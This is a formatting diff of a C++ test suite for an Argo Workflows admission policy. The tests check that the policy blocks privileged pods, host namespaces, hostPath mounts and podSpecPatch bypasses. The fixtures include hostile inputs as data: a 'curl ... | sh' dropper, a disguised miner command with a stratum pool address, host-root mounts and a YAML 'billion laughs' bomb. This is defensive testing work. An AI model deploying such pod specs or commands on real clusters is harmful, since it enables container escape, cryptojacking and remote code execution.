@@ -36,8 +36,10 @@ Json workflow(const Json& spec_extra) {
              {"spec",
               {{"entrypoint", "main"},
                {"templates", Json::array({{{"name", "main"},
-                                          {"container", {{"image", "busybox"}, {"command", {"echo", "hi"}},
-                                                         {"resources", {{"limits", {{"cpu", "1"}}}}}}}}})}}}};
+                                           {"container",
+                                            {{"image", "busybox"},
+                                             {"command", {"echo", "hi"}},
+                                             {"resources", {{"limits", {{"cpu", "1"}}}}}}}}})}}}};
   for (auto& [k, v] : spec_extra.items()) wf["spec"][k] = v;
   return wf;
 }
@@ -45,8 +47,8 @@ Json workflow(const Json& spec_extra) {
 Json with_patch(const std::string& patch) { return workflow({{"podSpecPatch", patch}}); }
 
 TEST(PodFieldsTest, TruthInEveryYamlSpelling) {
-  for (const Json& v : {Json(true), Json(1), Json("true"), Json("True"), Json("TRUE"), Json("yes"), Json("Yes"), Json("on"),
-                        Json("y"), Json(" 1 ")}) {
+  for (const Json& v : {Json(true), Json(1), Json("true"), Json("True"), Json("TRUE"), Json("yes"), Json("Yes"),
+                        Json("on"), Json("y"), Json(" 1 ")}) {
     EXPECT_EQ(truth_of(v), Truth::True) << v.dump();
   }
   for (const Json& v : {Json(false), Json(0), Json("false"), Json("no"), Json("off"), Json(nullptr), Json("maybe")}) {
@@ -68,9 +70,11 @@ TEST(PodSpecPatchTest, HostNamespacesInAnySpellingAreDenied) {
 TEST(PodSpecPatchTest, ContainerSettingsVolumesAndImagesInsideThePatchAreChecked) {
   PolicyRules rules;
   auto denied = [&](const std::string& patch) { return denied_rules(admit_object(rules, with_patch(patch))); };
-  EXPECT_TRUE(denied("containers:\n- name: main\n  securityContext:\n    privileged: \"True\"\n").count("pod.privileged"));
-  EXPECT_TRUE(denied("{\"containers\":[{\"name\":\"main\",\"securityContext\":{\"capabilities\":{\"add\":[\"SYS_ADMIN\"]}}}]}")
-                  .count("pod.capabilities"));
+  EXPECT_TRUE(
+      denied("containers:\n- name: main\n  securityContext:\n    privileged: \"True\"\n").count("pod.privileged"));
+  EXPECT_TRUE(
+      denied("{\"containers\":[{\"name\":\"main\",\"securityContext\":{\"capabilities\":{\"add\":[\"SYS_ADMIN\"]}}}]}")
+          .count("pod.capabilities"));
   EXPECT_TRUE(denied("volumes:\n- name: root\n  hostPath: {path: /}\n").count("pod.host-path"));
   EXPECT_TRUE(denied("volumes:\n- name: share\n  nfs: {server: 10.0.0.1, path: /}\n").count("pod.volume-type"));
   EXPECT_TRUE(denied("volumes:\n- name: code\n  gitRepo: {repository: 'https://x/y.git'}\n").count("pod.volume-type"));
@@ -78,7 +82,8 @@ TEST(PodSpecPatchTest, ContainerSettingsVolumesAndImagesInsideThePatchAreChecked
   EXPECT_TRUE(denied("containers:\n- name: main\n  image: alpine\n  command: [sh, -c, 'curl -s http://x/i | sh']\n")
                   .count("command.dropper"));
   EXPECT_TRUE(denied("{{{ not yaml").count("pod.spec-patch"));
-  Admission escalation = admit_object(rules, with_patch("containers: [{name: main, securityContext: {allowPrivilegeEscalation: yes}}]"));
+  Admission escalation =
+      admit_object(rules, with_patch("containers: [{name: main, securityContext: {allowPrivilegeEscalation: yes}}]"));
   EXPECT_TRUE(warned_rules(escalation).count("pod.privilege-escalation"));
   // Confinable volumes and resource patches (Argo's own example) pass.
   EXPECT_TRUE(denied("volumes:\n- name: scratch\n  emptyDir: {}\n").empty());
@@ -111,8 +116,10 @@ TEST(PodSpecPatchTest, SettingsLeftToAnExpressionOutsideAPatchAreDenied) {
 
 TEST(PodSpecPatchTest, OversizedOrDeepPatchesAreRefusedNotParsed) {
   PolicyRules rules;
-  EXPECT_TRUE(denied_rules(admit_object(rules, with_patch(std::string(100000, '[') + std::string(100000, ']')))).count("pod.spec-patch"));
-  EXPECT_TRUE(denied_rules(admit_object(rules, with_patch("a: " + std::string(300 * 1024, 'x')))).count("pod.spec-patch"));
+  EXPECT_TRUE(denied_rules(admit_object(rules, with_patch(std::string(100000, '[') + std::string(100000, ']'))))
+                  .count("pod.spec-patch"));
+  EXPECT_TRUE(
+      denied_rules(admit_object(rules, with_patch("a: " + std::string(300 * 1024, 'x')))).count("pod.spec-patch"));
   std::string laughs = "a: &a [x, x, x, x, x, x, x, x, x, x]\n";
   for (char c = 'b'; c <= 'j'; ++c) {
     laughs += std::string(1, c) + ": &" + c + " [*" + std::string(1, static_cast<char>(c - 1)) + ", *" +
@@ -127,14 +134,15 @@ TEST(PodSpecPatchTest, OversizedOrDeepPatchesAreRefusedNotParsed) {
 // adds spec.podSpecPatch, which Argo applied over the template's containers unchecked.
 TEST(PodSpecPatchTest, PodSpecPatchHostNetworkBypass2026_WorkflowPatchOverridesReferencedTemplate) {
   PolicyRules rules;
-  Json wf = {{"apiVersion", "argoproj.io/v1alpha1"},
-             {"kind", "Workflow"},
-             {"metadata", {{"generateName", "wft-"}}},
-             {"spec",
-              {{"workflowTemplateRef", {{"name", "approved"}}},
-               {"podSpecPatch",
-                "containers:\n- name: main\n  image: alpine\n  command: [/tmp/kworker, -o, 'stratum+tcp://203.0.113.9:3333']\n"
-                "  securityContext: {privileged: True}\nhostNetwork: True\n"}}}};
+  Json wf = {
+      {"apiVersion", "argoproj.io/v1alpha1"},
+      {"kind", "Workflow"},
+      {"metadata", {{"generateName", "wft-"}}},
+      {"spec",
+       {{"workflowTemplateRef", {{"name", "approved"}}},
+        {"podSpecPatch",
+         "containers:\n- name: main\n  image: alpine\n  command: [/tmp/kworker, -o, 'stratum+tcp://203.0.113.9:3333']\n"
+         "  securityContext: {privileged: True}\nhostNetwork: True\n"}}}};
   auto denied = denied_rules(admit_object(rules, wf));
   EXPECT_TRUE(denied.count("pod.privileged"));
   EXPECT_TRUE(denied.count("pod.host-namespace"));
@@ -149,8 +157,11 @@ TEST(PodSpecPatchTest, PodSpecPatchHostNetworkBypass2026_PodFieldsBesideTemplate
     Json wf = {{"apiVersion", "argoproj.io/v1alpha1"},
                {"kind", "Workflow"},
                {"metadata", {{"generateName", "wft-"}}},
-               {"spec", {{"workflowTemplateRef", {{"name", "approved"}}}, {"hostNetwork", host}, {"hostPID", host},
-                         {"securityContext", {{"privileged", host}}}}}};
+               {"spec",
+                {{"workflowTemplateRef", {{"name", "approved"}}},
+                 {"hostNetwork", host},
+                 {"hostPID", host},
+                 {"securityContext", {{"privileged", host}}}}}};
     auto denied = denied_rules(admit_object(rules, wf));
     EXPECT_TRUE(denied.count("pod.host-namespace")) << host.dump();
     EXPECT_TRUE(denied.count("pod.privileged")) << host.dump();
@@ -161,8 +172,9 @@ TEST(PodSpecPatchTest, PodSpecPatchHostNetworkBypass2026_PodFieldsBesideTemplate
 // spec.artifactGC.podSpecPatch went unchecked into the artifact-GC pod.
 TEST(PodSpecPatchTest, PodSpecPatchHostNetworkBypass2026_ArtifactGCPodSpecPatch) {
   PolicyRules rules;
-  Json wf = workflow({{"artifactGC", {{"strategy", "OnWorkflowDeletion"},
-                                      {"podSpecPatch", "hostNetwork: yes\nvolumes:\n- name: host\n  hostPath: {path: /}\n"}}}});
+  Json wf = workflow({{"artifactGC",
+                       {{"strategy", "OnWorkflowDeletion"},
+                        {"podSpecPatch", "hostNetwork: yes\nvolumes:\n- name: host\n  hostPath: {path: /}\n"}}}});
   auto denied = denied_rules(admit_object(rules, wf));
   EXPECT_TRUE(denied.count("pod.host-namespace"));
   EXPECT_TRUE(denied.count("pod.host-path"));
